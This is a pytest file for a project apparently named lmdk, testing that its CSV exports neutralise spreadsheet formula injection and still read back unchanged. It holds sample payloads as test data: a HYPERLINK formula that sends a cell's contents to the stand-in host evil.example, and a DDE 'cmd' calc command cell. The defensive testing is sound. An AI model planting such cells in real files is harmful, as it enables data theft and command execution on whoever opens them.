"""Nothing injectable (issue 54): every CSV the project writes neutralises cells a spreadsheet would run as a formula
(OWASP: a text cell beginning with = + - @ tab or CR gets a leading '), numbers stay as they are, and the policy
table reads its own file back unchanged. The ids are the ones the issue found written verbatim."""
from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from lmdk import cli
from lmdk.exports.cells import TRIGGERS, csv_text, plain_cell, safe_cell, safe_cells
from lmdk.exports.files import DEMONSTRATION, demonstration_note, table_text, write_table
from lmdk.policies.table import PolicyRow, PolicyTable, read_frame, read_table, table_from_frame

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
CALC = "+cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, CALC, "-cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-inf", "-"]
NUMBERS = ["-3.5", "+1e3", "-2", "+.5", "-1E-3"]
TEXT = ["alice", "'quoted", "'=already", "''=twice", "", "north"]


def formula_cells(text: str) -> list[str]:
    """Every cell of ``text`` (CSV, ``#`` lines included, split as a spreadsheet splits them) that a spreadsheet
    would run as a formula: begins with a trigger and is not a plain number."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell[:1] in TRIGGERS:
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_gets_a_leading_quote_and_reads_back(cell):
    assert safe_cell(cell) == "'" + cell
    assert plain_cell(safe_cell(cell)) == cell


@pytest.mark.parametrize("cell", NUMBERS + TEXT)
def test_numbers_and_plain_text_round_trip(cell):
    assert plain_cell(safe_cell(cell)) == cell
    if cell in NUMBERS or cell[:1] not in ("'", *TRIGGERS):
        assert safe_cell(cell) == cell  # a finite number or ordinary text is written as it is


def test_numeric_columns_are_never_touched():
    frame = pd.DataFrame({"released": [-3.5, -0.0, 1e300], "n": [-1, 2, 3]})
    assert safe_cells(frame) is frame
    assert csv_text(frame) == frame.to_csv(index=False, lineterminator="\n")


def test_a_table_with_every_kind_of_cell_has_no_formula_and_reads_back():
    cells = FORMULAS + NUMBERS + TEXT
    frame = pd.DataFrame({"user": cells, "=HYPERLINK(1)": range(len(cells))})
    text = csv_text(frame, note="# by 'x,=HYPERLINK(\"https://evil.example\"),\"=1+1\"'")
    assert formula_cells(text) == []
    back = pd.read_csv(io.StringIO(text), comment="#", dtype=str, keep_default_na=False)
    assert [plain_cell(c) for c in back.columns] == ["user", "=HYPERLINK(1)"]
    assert [plain_cell(c) for c in back["user"]] == cells


def test_the_policy_csv_is_not_injectable_and_round_trips(tmp_path):
    users = [HYPERLINK, CALC, "-cmd", "alice", "'=already", "-7"]
    rows = tuple(PolicyRow(i, u, "calendar:mon-fri@18:00-22:00", 1.0, "uniform") for i, u in enumerate(users, 1))
    text = PolicyTable(rows).to_csv()
    assert formula_cells(text) == []  # before: both ids written verbatim
    assert f'"\'{HYPERLINK.replace(chr(34), chr(34) * 2)}"' in text
    back = table_from_frame(read_frame(text.encode(), "policies.csv"), files=False)
    assert [row.user for row in back.rows] == users
    (tmp_path / "policies.csv").write_text(text)
    assert [row.user for row in read_table(tmp_path / "policies.csv").rows] == users


def test_lmdk_aggregate_by_writes_group_ids_that_no_spreadsheet_runs(tmp_path, capsys):
    times = [f"2026-01-01 {h:02d}:00:00" for h in range(6)]
    groups = {"u1": HYPERLINK, "u2": HYPERLINK, "u3": CALC, "u4": CALC}
    rows = [(user, t, 2.0, group) for user, group in groups.items() for t in times]
    data = tmp_path / "meters.csv"
    pd.DataFrame(rows, columns=["user", "timestamp", "value", "district"]).to_csv(data, index=False)
    out, summary = tmp_path / "out.csv", tmp_path / "out.json"
    code = cli.main(["aggregate", str(data), "--statistic", "sum", "--range", "0", "5", "--epsilon", "1",
                     "--landmarks", "calendar:daily@01:00-02:00", "--scheme", "uniform", "--by", "district",
                     "--out", str(out), "--json", str(summary)])
    assert code == 0, capsys.readouterr().err
    text = out.read_text()
    assert formula_cells(text) == []  # before: =HYPERLINK(…) and +cmd|… in the group column
    table = pd.read_csv(out, comment="#", dtype=str)
    assert set(table["group"]) == {"'" + HYPERLINK, "'" + CALC}
    assert set(json.loads(summary.read_text())["groups"]) == {HYPERLINK, CALC}  # JSON is not a spreadsheet


def test_a_note_quoting_a_column_name_splits_into_no_formula(tmp_path):
    frame = pd.DataFrame({"timestamp": ["2026-01-01"], "group": ["-cmd"], "released": [1.0]})
    path = tmp_path / "t.csv"
    write_table(frame, path, note="# Groups: 2 (by 'a,=HYPERLINK(\"https://evil.example\")'); each")
    assert formula_cells(path.read_text()) == []


def test_the_demonstration_csv_keeps_its_mark_first_and_neutralises_its_cells():
    frame = pd.DataFrame({"timestamp": ["=cmd", "2026-01-01"], "released": [-1.5, 2.0]})
    text = table_text(frame, demonstration_note(0))
    assert text.splitlines()[0] == demonstration_note(0) and text.startswith(DEMONSTRATION)
    assert formula_cells(text) == []
    assert pd.read_csv(io.StringIO(text), comment="#")["released"].tolist() == [-1.5, 2.0]


def test_an_exported_release_csv_is_neutralised():
    import numpy as np

    from lmdk.exports.export import ExportedRelease

    frame = pd.DataFrame({"timestamp": ["@evil", "+1"], "released": [-1.0, 1.0]})
    exported = ExportedRelease(frame, "# a note", release=None, guarantee=None, relation=None)  # type: ignore[arg-type]
    text = exported.csv()
    assert formula_cells(text) == [] and "'@evil" in text and "\n+1," in text
    assert np.allclose(pd.read_csv(io.StringIO(text), comment="#")["released"], [-1.0, 1.0])


WRITERS = ("lmdk", "ui", "pages")
POLICY_TABLE_CSV = ("pages/policies.py:table.to_csv()",)  # PolicyTable.to_csv, itself written with csv_text


def test_every_csv_writer_goes_through_the_neutralising_function():
    """No ``.to_csv(`` call in the project's code except on a frame passed through ``safe_cells`` (the one place:
    lmdk/exports/cells.py); ``csv.writer`` is not used to write tables."""
    offenders = []
    for folder in WRITERS:
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "lmdk" / "exports" / "cells.py":
                continue
            tree = ast.parse(path.read_text())
            for node in ast.walk(tree):
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                    target = node.func.value
                    if node.func.attr == "to_csv" and not (
                            isinstance(target, ast.Call) and getattr(target.func, "id", "") == "safe_cells"
                            or f"{path.relative_to(ROOT)}:{ast.unparse(node)}" in POLICY_TABLE_CSV):
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                    if node.func.attr in ("writer", "DictWriter") and getattr(target, "id", "") == "csv":
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
